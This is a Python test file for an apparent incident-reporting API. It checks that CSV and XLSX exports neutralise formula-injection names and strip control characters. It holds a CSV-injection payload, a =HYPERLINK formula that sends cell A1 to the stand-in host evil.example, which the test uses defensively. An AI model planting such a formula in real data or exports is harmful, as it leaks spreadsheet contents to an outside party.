"""Incident reports opened in a spreadsheet: names that look like formulas stay text, and control
characters stored before they were refused do not break the XLSX (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import httpx
import psycopg
from openpyxl import load_workbook

from gridmap.access.accounts import add_key
from gridmap.access.rules import cli_principal
from gridmap.settings import Settings
from tests.conftest import LiveServer
from tests.support.incident_setup import spots

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_formula_names_and_control_characters_are_neutralised_in_csv_and_xlsx(demo_db):
    settings = Settings(database_url=demo_db, rate_limit_anonymous=0)
    with psycopg.connect(demo_db, autocommit=True) as conn:
        key = add_key(conn, cli_principal(), settings.security.secret_key.get_secret_value(), "r", "admin", [])
        lon, lat, code = spots(conn, 1)[0]
        # Written straight to the table, past its triggers, as data stored before the input rules refused it.
        conn.execute("SET session_replication_role = replica")
        conn.execute("UPDATE area SET name = %s WHERE valid_to IS NULL AND code = %s", (FORMULA, code[:15]))
        conn.execute("UPDATE area SET name = %s WHERE valid_to IS NULL AND code = %s", ("民乐\x01社区", code[:12]))
    headers = {"Authorization": f"Bearer {key}"}
    with LiveServer(settings) as server, httpx.Client(base_url=server.url, headers=headers, timeout=30) as client:
        made = client.post("/api/v1/incidents", json={"category": "streetlight", "description": "灯", "lon": lon,
                                                       "lat": lat})  # fmt: skip
        assert made.status_code == 201, made.text
        reports = {}
        for level in ("grid", "community"):
            params = {"level": level, "from": "2000-01-01", "to": "2100-01-01"}
            reports[level] = {f: client.get("/api/v1/reports/incidents", params=params | {"format": f}) for f in
                              ("csv", "xlsx")}  # fmt: skip
    for level, answers in reports.items():
        assert all(r.status_code == 200 for r in answers.values()), level
    grid_csv = list(csv.DictReader(io.StringIO(reports["grid"]["csv"].text.lstrip("\ufeff"))))
    row = next(r for r in grid_csv if r["code"] == code[:15])
    assert row["name"] == "'" + FORMULA
    book = load_workbook(io.BytesIO(reports["grid"]["xlsx"].content))
    cells = [c for r in book.active.iter_rows() for c in r if c.value and "HYPERLINK" in str(c.value)]
    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].value == FORMULA and cells[0].quotePrefix
    community = load_workbook(io.BytesIO(reports["community"]["xlsx"].content)).active
    assert "民乐社区" in [c.value for r in community.iter_rows() for c in r]
    assert "民乐社区" in reports["community"]["csv"].text
